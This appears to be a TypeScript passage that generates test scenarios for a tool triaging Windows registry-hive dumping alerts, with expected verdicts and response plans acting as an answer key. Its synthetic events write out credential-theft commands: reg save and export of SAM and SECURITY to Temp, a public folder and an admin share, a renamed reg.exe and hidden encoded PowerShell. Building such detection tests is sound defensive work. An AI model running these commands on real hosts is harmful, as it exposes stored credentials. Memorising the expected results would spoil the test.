    name: 'w4688-wrapper-grandparent',
    title: 'Windows 4688 only: a VBScript runs every command behind cmd /c; staging found under the grandparent by pid',
    covers: ['staging under a wrapper grandparent', 'Windows 4688 without entity ids, including pid reuse', 'script host'],
    events: [...events, alertOf(source)],
    assets: [asset(H, 'workstation', 'medium', true)],
    alert: alertOf(source),
    expect: {
      verified: true,
      disposition: 'malicious',
      hives: ['SECURITY'],
      hostRole: 'workstation',
      destinations: ['temp', 'deceptive_name'],
      factors: ['hive.security', 'lineage.wrapper_expanded', 'lineage.script_host', 'staging.system_export', 'staging.archiving', 'staging.deletion'],
      absentFactors: ['staging.companion_export'],
      plan: ['preserve_evidence', 'limit_outbound', 'isolate_host', 'terminate_process', 'remove_artifacts'],
      unresolved: ['no network telemetry'],
    },
  });
}

// ---- RMM + remote session + related alerts -------------------------------------------------------

{
  const H: Host = { id: 'f0e1d2c3-0000-4000-8000-00000000j401', name: 'jump-ops-01' };
  const U: User = { id: 'S-1-5-21-3623811015-3361044348-30300820-2210', name: 'k.ward', domain: 'CORP' };
  const T = '2026-11-21T22:41:10.000Z';
  const anydesk = { entity: 'ad-1', pid: 1880, exe: 'C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe', cmd: '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service' };
  const shell = defend({ ts: iso(T, -60), host: H, user: U, entity: 'cmd-1', pid: 2400, exe: 'C:\\Windows\\System32\\cmd.exe', cmd: '"C:\\Windows\\System32\\cmd.exe"', parent: anydesk, logon: 'RemoteInteractive' });
  const reg = defend({ ts: T, host: H, user: U, entity: 'reg-1', pid: 2488, exe: 'C:\\Windows\\System32\\reg.exe', cmd: 'reg save HKEY_LOCAL_MACHINE\\SECURITY \\\\fs02\\ADMIN$\\temp\\wsus.log', parent: { entity: 'cmd-1', pid: 2400, exe: 'C:\\Windows\\System32\\cmd.exe', cmd: '"C:\\Windows\\System32\\cmd.exe"' }, logon: 'RemoteInteractive' });
  const events = [
    shell,
    reg,
    netEvent(iso(T, 1), H, { entity: 'reg-1', pid: 2488, exe: 'C:\\Windows\\System32\\reg.exe' }, '10.1.4.22', 445),
    alertOf(reg),
    otherAlert(iso(T, -3 * 3600), H, U, 'Potential Lateral Tool Transfer via SMB Share', { id: 'TA0008', name: 'Lateral Movement' }),
    otherAlert(iso(T, -5 * 3600), H, U, 'Remote Desktop Enabled in Windows Firewall by Netsh', { id: 'TA0003', name: 'Persistence' }),
  ];
  scenarios.push({
    name: 'rmm-remote-session-admin-share',
    title: 'AnyDesk session on a jump host: SECURITY (long form) saved to an admin share as a .log, with lateral-movement alerts for the user',
    covers: ['RMM tool and remote-style session', 'admin share and deceptive name', 'related alerts', 'hkey_local_machine spelling'],
    events,
    assets: [asset(H, 'jump_host', 'high', true)],
    alert: alertOf(reg),
    expect: {
      verified: true,
      disposition: 'malicious',
      hives: ['SECURITY'],
      hostRole: 'jump_host',
      destinations: ['unc', 'admin_share', 'temp', 'deceptive_name'],
      factors: ['hive.security', 'destination.admin_share', 'destination.unc', 'destination.deceptive_name', 'lineage.interactive_shell', 'lineage.rmm_tool', 'session.remote_style', 'network.activity', 'host.privileged_role', 'related.lateral_movement', 'related.persistence'],
      plan: ['preserve_evidence', 'restrict_share', 'limit_outbound', 'isolate_host', 'disable_account', 'remove_artifacts'],
    },
  });
}

// ---- drift: the alert was raised by version 317; the hive spelled the long way --------------------

{
  const H: Host = { id: 'b7a6c5d4-0000-4000-8000-00000000e317', name: 'eng-wks-031' };
  const U: User = { id: 'S-1-5-21-3623811015-3361044348-30300820-3011', name: 'pchen', domain: 'CORP' };
  const T = '2026-11-22T09:05:00.000Z';
  const reg = defend({ ts: T, host: H, user: U, entity: 'reg-d1', pid: 9120, exe: 'C:\\Windows\\System32\\reg.exe', cmd: 'reg save hklm\\sam C:\\Users\\pchen\\AppData\\Local\\Temp\\s.tmp', parent: { entity: 'ps-d1', pid: 9000, exe: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\pchen\\Downloads\\fix.ps1' } });
  const events = [
    defend({ ts: iso(T, -20), host: H, user: U, entity: 'ps-d1', pid: 9000, exe: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\pchen\\Downloads\\fix.ps1', parent: { entity: 'exp-d1', pid: 4100, exe: 'C:\\Windows\\explorer.exe' } }),
    reg,
    fileEvent(iso(T, 1), H, { entity: 'reg-d1', pid: 9120, exe: 'C:\\Windows\\System32\\reg.exe' }, 'C:\\Users\\pchen\\AppData\\Local\\Temp\\s.tmp'),
    defend({ ts: iso(T, 9), host: H, user: U, entity: 'del-d1', pid: 9150, exe: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /c del /q C:\\Users\\pchen\\AppData\\Local\\Temp\\s.tmp', parent: { entity: 'ps-d1', pid: 9000, exe: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' } }),
    netEvent(iso(T, -300), H, { entity: 'edge-1', pid: 3100, exe: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe' }, '13.107.42.14', 443),
  ];
  scenarios.push({
    name: 'script-host-temp-drift-v317',
    title: 'A downloaded PowerShell script saves SAM to Temp and deletes it; the alert carries the version-317 query',
    covers: ['rule drift', 'script host', 'deletion of output'],
    events: [...events, alertOf(reg, { query: Q317, version: 317 })],
    assets: [asset(H, 'workstation', 'low', true)],
    alert: alertOf(reg, { query: Q317, version: 317 }),
    expect: {
      verified: true,
      drift: true,
      disposition: 'malicious',
      hives: ['SAM'],
      hostRole: 'workstation',
      destinations: ['temp', 'deceptive_name'],
      factors: ['hive.sam', 'destination.temp', 'lineage.script_host', 'staging.deletion'],
      plan: ['preserve_evidence', 'limit_outbound', 'isolate_host', 'terminate_process', 'remove_artifacts'],
      unresolved: ['rule drift'],
    },
  });
}

// ---- role from the inventory only -----------------------------------------------------------------

{
  const H: Host = { id: 'e5f6a7b8-0000-4000-8000-0000000000b1', name: 'backup-01' };
  const U: User = { id: 'S-1-5-21-3623811015-3361044348-30300820-1450', name: 'itadmin', domain: 'CORP' };
  const T = '2026-11-23T13:00:00.000Z';
  const reg = defend({ ts: T, host: H, user: U, entity: 'reg-b1', pid: 5520, exe: 'C:\\Windows\\System32\\reg.exe', cmd: 'reg export HKLM\\SAM C:\\Tools\\sam.reg', parent: { entity: 'cmd-b1', pid: 5500, exe: 'C:\\Windows\\System32\\cmd.exe', cmd: '"C:\\Windows\\System32\\cmd.exe"' } });
  const events = [reg, netEvent(iso(T, -100), H, { entity: 'svc-b1', pid: 900, exe: 'C:\\Windows\\System32\\svchost.exe' }, '10.0.0.1', 53), fileEvent(iso(T, 1), H, { entity: 'reg-b1', pid: 5520, exe: 'C:\\Windows\\System32\\reg.exe' }, 'C:\\Tools\\sam.reg')];
  scenarios.push({
    name: 'named-backup-but-workstation',
    title: 'A host named backup-01 that the inventory calls a workstation is a workstation',
    covers: ['host role from the inventory only', 'export verb'],
    events: [...events, alertOf(reg)],
    assets: [asset(H, 'workstation', 'low', true)],
    alert: alertOf(reg),
    expect: {
      verified: true,
      disposition: 'malicious',
      hives: ['SAM'],
      hostRole: 'workstation',
      destinations: ['system_drive_other'],
      factors: ['hive.sam', 'lineage.interactive_shell'],
      absentFactors: ['host.privileged_role'],
      plan: ['preserve_evidence', 'limit_outbound', 'isolate_host', 'remove_artifacts'],
    },
  });
}
{
  const H: Host = { id: 'd4c3b2a1-0000-4000-8000-00000000u404', name: 'srv-backup-sql' };
  const U: User = { id: 'S-1-5-21-3623811015-3361044348-30300820-1601', name: 'svc_sqlbackup', domain: 'CORP' };
  const T = '2026-11-23T02:00:00.000Z';
  const reg = defend({ ts: T, host: H, user: U, entity: 'reg-u1', pid: 3320, exe: 'C:\\Windows\\System32\\reg.exe', cmd: 'reg save HKLM\\SYSTEM E:\\sysstate\\system.hiv /y', parent: { entity: 'sched-u1', pid: 1200, exe: 'C:\\Windows\\System32\\svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule' }, logon: 'Batch' });
  const events = [reg, fileEvent(iso(T, 1), H, { entity: 'reg-u1', pid: 3320, exe: 'C:\\Windows\\System32\\reg.exe' }, 'E:\\sysstate\\system.hiv'), netEvent(iso(T, -60), H, { entity: 'x', pid: 901, exe: 'C:\\Windows\\System32\\svchost.exe' }, '10.0.0.1', 53)];
  scenarios.push({
    name: 'unknown-host-system-only',
    title: 'A scheduled SYSTEM-only save on a host the inventory does not know: role unknown, suspicious',
    covers: ['host missing from the inventory', 'SYSTEM alone'],
    events: [...events, alertOf(reg)],
    assets: [],
    alert: alertOf(reg),
    expect: {
      verified: true,
      disposition: 'suspicious',
      hives: ['SYSTEM'],
      hostRole: null,
      destinations: ['removable_or_other_drive'],
      factors: ['hive.system_only', 'destination.removable_or_other_drive', 'user.service_account'],
      plan: ['preserve_evidence', 'limit_outbound'],
      unresolved: ['not in the asset inventory'],
    },
  });
}

// ---- renamed reg.exe ------------------------------------------------------------------------------

{
  const H: Host = { id: 'aa11bb22-0000-4000-8000-00000000r3n4', name: 'hr-wks-044' };
  const U: User = { id: 'S-1-5-21-3623811015-3361044348-30300820-4410', name: 'tgreen', domain: 'CORP' };
  const T = '2026-11-24T11:20:00.000Z';
  const reg = defend({ ts: T, host: H, user: U, entity: 'reg-r1', pid: 7720, exe: 'C:\\Users\\Public\\Libraries\\rg.exe', cmd: 'C:\\Users\\Public\\Libraries\\rg.exe save HKLM\\SECURITY C:\\Users\\Public\\Libraries\\thumbs.db', parent: { entity: 'ws-r1', pid: 7700, exe: 'C:\\Windows\\System32\\wscript.exe', cmd: 'wscript.exe //B C:\\Users\\tgreen\\AppData\\Roaming\\upd.vbs' }, ofn: 'reg.exe', signer: 'Microsoft Windows' });
  const events = [reg, fileEvent(iso(T, 1), H, { entity: 'reg-r1', pid: 7720, exe: 'C:\\Users\\Public\\Libraries\\rg.exe' }, 'C:\\Users\\Public\\Libraries\\thumbs.db'), netEvent(iso(T, -30), H, { entity: 'ws-r1', pid: 7700, exe: 'C:\\Windows\\System32\\wscript.exe' }, '198.51.100.7', 443)];
  scenarios.push({
    name: 'renamed-reg-script-host',
    title: 'A renamed reg.exe (pe.original_file_name reg.exe) run by wscript writes SECURITY as thumbs.db in the public profile',
    covers: ['binary identity', 'script host', 'deceptive name', 'unexpected user: no history, left unresolved'],
    events: [...events, alertOf(reg)],
    assets: [asset(H, 'workstation', 'medium', true)],
    alert: alertOf(reg),
    expect: {
      verified: true,
      disposition: 'malicious',
      hives: ['SECURITY'],
      hostRole: 'workstation',
      destinations: ['public_profile', 'deceptive_name'],
      factors: ['hive.security', 'binary.anomaly', 'lineage.script_host', 'destination.public_profile', 'destination.deceptive_name'],
      absentFactors: ['user.unseen_on_host'],
      plan: ['preserve_evidence', 'limit_outbound', 'isolate_host', 'terminate_process', 'remove_artifacts'],
      // No prior alert or process event of any user on this host: whether tgreen is expected stays open.
      unresolved: ['no history of users on host hr-wks-044'],
    },
  });
}

// ---- unexpected user: first appearance on a shared workstation ----------------------------------

{
  const H: Host = { id: 'f1a2b3c4-0000-4000-8000-0000000f1310', name: 'fin-wks-310' };
  const OWNER: User = { id: 'S-1-5-21-3623811015-3361044348-30300820-3101', name: 'mkhan', domain: 'CORP' };
  const NEWCOMER: User = { id: 'S-1-5-21-3623811015-3361044348-30300820-7781', name: 'ext_jlopez', domain: 'CORP' };
  const KIT = 'C:\\Program Files\\Contoso\\AdminKit\\adminkit.exe';
  const KIT_CMD = `"${KIT}" --console`;
  const T = '2026-11-24T14:10:00.000Z';
  const kit = (ts: string, user: User, entity: string, pid: number) =>
    defend({ ts, host: H, user, entity, pid, exe: KIT, cmd: KIT_CMD, parent: { entity: `explorer-${entity}`, pid: pid - 100, exe: 'C:\\Windows\\explorer.exe' }, signer: 'Contoso Ltd', ofn: 'adminkit.exe', wd: 'C:\\Program Files\\Contoso\\AdminKit\\' });
  const save = (ts: string, user: User, entity: string, pid: number, parent: { entity: string; pid: number }) =>
    defend({ ts, host: H, user, entity, pid, exe: 'C:\\Windows\\System32\\reg.exe', cmd: 'reg.exe save HKLM\\SAM C:\\AdminKit\\export\\sam.hiv /y', parent: { ...parent, exe: KIT, cmd: KIT_CMD } });
  // Six days earlier the workstation's usual admin ran the same export (one prior alert of this rule), and
  // 20 h earlier an unrelated discovery alert named that admin again: the host has a user history.
  const ownerKit = kit(iso(T, -6 * 86400 - 120), OWNER, 'uu-kit-0', 4400);
  const ownerSave = save(iso(T, -6 * 86400), OWNER, 'uu-reg-0', 4410, { entity: 'uu-kit-0', pid: 4400 });
  const newKit = kit(iso(T, -120), NEWCOMER, 'uu-kit-1', 5400);
  const reg = save(T, NEWCOMER, 'uu-reg-1', 5410, { entity: 'uu-kit-1', pid: 5400 });
  const events = [
    ownerKit,
    ownerSave,
    alertOf(ownerSave),
    otherAlert(iso(T, -20 * 3600), H, OWNER, 'Enumeration of Administrator Accounts', { id: 'TA0007', name: 'Discovery' }),
    newKit,
    reg,
    fileEvent(iso(T, 1), H, { entity: 'uu-reg-1', pid: 5410, exe: 'C:\\Windows\\System32\\reg.exe' }, 'C:\\AdminKit\\export\\sam.hiv'),
    netEvent(iso(T, -300), H, { entity: 'uu-svc', pid: 1100, exe: 'C:\\Windows\\System32\\svchost.exe' }, '10.40.0.2', 443),
    alertOf(reg),
  ];
  scenarios.push({
    name: 'unexpected-user-first-on-host',
    title: 'A user never seen on this workstation exports SAM through the usual admin tool, while its regular admin appears in prior alerts',
    covers: ['unexpected user (history-based)'],
    events,
    assets: [asset(H, 'workstation', 'medium', true)],
    alert: alertOf(reg),
    expect: {
      verified: true,
      disposition: 'malicious',
      hives: ['SAM'],
      hostRole: 'workstation',
      factors: ['hive.sam', 'user.unseen_on_host'],
      absentFactors: ['user.unexpected', 'session.remote_style', 'lineage.interactive_shell', 'host.privileged_role'],
      // The first appearance is user evidence of misuse: the account step is proposed (for approval).
      plan: ['preserve_evidence', 'limit_outbound', 'isolate_host', 'disable_account', 'remove_artifacts'],
    },
  });
}

// ---- alert storm ------------------------------------------------------------------------------------

{
  const H: Host = { id: '5707a11e-0000-4000-8000-0000000057a4', name: 'ops-wks-200' };
  const U: User = { id: 'S-1-5-21-3623811015-3361044348-30300820-2001', name: 'rsingh', domain: 'CORP' };
  const T = '2026-11-24T03:00:00.000Z';
  const loader = defend({ ts: iso(T, -10), host: H, user: U, entity: 'st-ps', pid: 6000, exe: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -nop -w hidden -enc JABzAD0AMQA=', parent: { entity: 'st-wmi', pid: 3200, exe: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe' }, logon: 'Network' });
  const events: Doc[] = [loader, netEvent(iso(T, -5), H, { entity: 'st-ps', pid: 6000, exe: loader.process.executable }, '192.0.2.44', 8443)];
  const alerts: Doc[] = [];
  for (let i = 0; i < 40; i++) {
    const hive = ['sam', 'security', 'system'][i % 3]!;
    const reg = defend({ ts: iso(T, i * 2), host: H, user: U, entity: `st-reg-${i}`, pid: 6100 + i, exe: 'C:\\Windows\\System32\\reg.exe', cmd: `reg save HKLM\\${hive} C:\\ProgramData\\st\\${hive}${i} /y`, parent: { entity: 'st-ps', pid: 6000, exe: loader.process.executable, cmd: loader.process.command_line }, logon: 'Network' });
    const alert = alertOf(reg);
    events.push(reg, alert);
    alerts.push(alert);
  }
  scenarios.push({
    name: 'alert-storm',
    title: 'An alert storm: 40 hive saves in 80 s from one encoded PowerShell over a network logon; every alert triages the same way',
    covers: ['alert storms', 'remote-style session'],
    events,
    assets: [asset(H, 'workstation', 'medium', true)],
    alert: alerts[0]!,
    alerts,
    expect: {
      verified: true,
      disposition: 'malicious',
      hives: ['SAM'],
      hostRole: 'workstation',
      destinations: ['public_profile'],
      factors: ['hive.sam', 'lineage.encoded_powershell', 'lineage.remote_execution', 'session.remote_style', 'staging.system_export', 'staging.companion_export'],
      plan: ['preserve_evidence', 'limit_outbound', 'isolate_host', 'disable_account', 'terminate_process', 'remove_artifacts'],
    },
  });
}

// ---- write -------------------------------------------------------------------------------------------

const scenarioRoot = join(repo, 'test/scenarios/datasets');
rmSync(scenarioRoot, { recursive: true, force: true });
for (const s of scenarios) {
  write(join(scenarioRoot, s.name), s);
  if (s.demo) write(join(repo, 'data', s.demo), s);
}
console.log(`wrote ${scenarios.length} scenario datasets; demo datasets: ${scenarios.filter((s) => s.demo).map((s) => s.demo).join(', ')}`);
